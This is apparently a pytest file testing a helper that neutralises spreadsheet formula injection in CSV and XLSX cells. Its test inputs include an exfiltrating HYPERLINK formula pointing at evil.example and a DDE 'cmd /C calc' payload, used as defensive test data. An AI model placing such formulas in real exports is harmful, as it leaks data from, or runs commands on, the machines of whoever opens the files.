"""`core.cells`: the one rule every CSV and XLSX writer applies to its cells (OWASP)."""

from __future__ import annotations

import csv
import io

import pytest

from core.cells import csv_lines, spreadsheet_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_that_would_start_a_formula_gets_a_leading_quote(text):
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", [-0.25, -3, 0.0, 1.5, None, True, "-0.25", "-1e-3", "+4", "信息量"]
)
def test_numbers_numeric_text_and_plain_text_are_unchanged(value):
    assert spreadsheet_cell(value) is value


def test_csv_lines_neutralise_every_cell_and_keep_negative_numbers():
    rows = [{"system": "=cmd|' /C calc'!A0", "value": -0.5, "text": None, "id": "-k1"}]
    text = "".join(csv_lines(("system", "value", "text", "id"), rows))
    parsed = list(csv.DictReader(io.StringIO(text)))
    assert parsed == [{"system": "'=cmd|' /C calc'!A0", "value": "-0.5", "text": "", "id": "'-k1"}]
